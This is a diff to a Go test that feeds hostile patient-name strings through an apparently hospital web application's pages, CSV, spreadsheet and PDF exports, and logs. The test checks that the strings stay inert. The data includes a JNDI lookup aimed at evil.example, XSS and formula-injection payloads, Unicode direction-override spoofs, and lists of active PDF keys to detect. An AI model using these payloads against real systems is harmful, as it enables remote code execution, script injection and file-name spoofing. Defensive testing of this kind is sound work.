@@ -37,6 +37,12 @@ var payloads = []string{
 	`${jndi:ldap://evil.example/x}`,
 	`%s%n%x`,
 	"é\u202egnp.exe",
+	"\u2067lagel\u2069 \u202bx",
+	`"quoted" 'twice' & <b>bold</b>`,
+	`\";alert(1);//`,
+	`]]></text><svg onload=alert(1)>`,
+	`=1+1;|cmd`,
+	strings.Repeat("long ", 21) + "end",
 }
 
 // hostileHospital is the small hospital with such names wherever a name is free text.
@@ -106,13 +112,14 @@ func TestHostileNamesStayTextOnEveryScreen(t *testing.T) {
 			t.Error(err)
 		}
 	}()
-	pages, files, shown := 0, 0, 0
+	order := ordered(t, h)
+	pages, files, papers, books, shown := 0, 0, 0, 0, 0
 	for _, v := range visitors(t, h) {
 		for _, r := range h.door.Routes() {
 			if r.Method != http.MethodGet || r.Path == "/live" || r.Path == "/live.json" || strings.HasPrefix(r.Path, "/static") {
 				continue
 			}
-			answer := v.ask(http.MethodGet, placeOf(r))
+			answer := v.ask(http.MethodGet, strings.Replace(placeOf(r), "/orders/1", "/orders/"+order.Number, 1))
 			body, kind := answer.Body.String(), answer.Header().Get("Content-Type")
 			if body != "" && (kind == "" || strings.HasPrefix(kind, "text/") && !strings.Contains(strings.ToLower(kind), "charset=utf-8")) {
 				t.Errorf("GET %s does not say what it is: %q", r.Path, kind)
@@ -120,7 +127,7 @@ func TestHostileNamesStayTextOnEveryScreen(t *testing.T) {
 			switch {
 			case strings.HasPrefix(kind, "text/html"):
 				pages++
-				for _, raw := range []string{"<script>alert", "<img src=x", ` href="javascript:alert`, ` src="javascript:alert`, ` action="javascript:alert`, `='-alert`} {
+				for _, raw := range []string{"<script>alert", "<img src=x", "<svg onload", "<b>bold", ` href="javascript:alert`, ` src="javascript:alert`, ` action="javascript:alert`, `='-alert`} {
 					if strings.Contains(body, raw) {
 						t.Errorf("GET %s for the %s holds %s", r.Path, v.name, raw)
 					}
@@ -131,14 +138,33 @@ func TestHostileNamesStayTextOnEveryScreen(t *testing.T) {
 			case strings.HasPrefix(kind, "text/csv"):
 				files++
 				plainCells(t, r.Path, body)
+			case strings.Contains(kind, "spreadsheetml"):
+				books++
+				if sheet := unpacked(t, kind, answer.Body.Bytes()); strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") || strings.Contains(sheet, "<script>") {
+					t.Errorf("GET %s holds a formula or markup", r.Path)
+				}
+			case kind == "application/pdf":
+				papers++
+				for _, active := range []string{"/JavaScript", "/JS", "/OpenAction", "/Launch", "/Filespec", "/URI (javascript"} {
+					if strings.Contains(body, active) {
+						t.Errorf("GET %s holds %s", r.Path, active)
+					}
+				}
+			case strings.Contains(kind, "json"):
+				if answer.Code == http.StatusOK && !json.Valid(answer.Body.Bytes()) && !strings.Contains(kind, "jsonl") {
+					t.Errorf("GET %s is no JSON", r.Path)
+				}
+			}
+			if !strings.Contains(kind, "json") && strings.ContainsAny(body, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") && !strings.Contains(kind, "pdf") && !strings.Contains(kind, "spreadsheetml") {
+				t.Errorf("GET %s for the %s turns the direction of reading", r.Path, v.name)
 			}
 		}
 	}
-	if pages < 100 || files == 0 || shown == 0 {
-		t.Errorf("%d pages, %d of them with a script as text, and %d files were looked at", pages, shown, files)
+	if pages < 100 || files == 0 || shown == 0 || papers == 0 || books == 0 {
+		t.Errorf("%d pages, %d of them with a script as text, %d files, %d spreadsheets and %d papers were looked at", pages, shown, files, books, papers)
 	}
 	for line := range strings.Lines(log.String()) {
-		if !strings.HasPrefix(line, "time=") {
+		if !strings.HasPrefix(line, "time=") || strings.ContainsAny(line, "\u202e\u2067\x1b") {
 			t.Errorf("the log has a line of its own: %s", line)
 		}
 	}
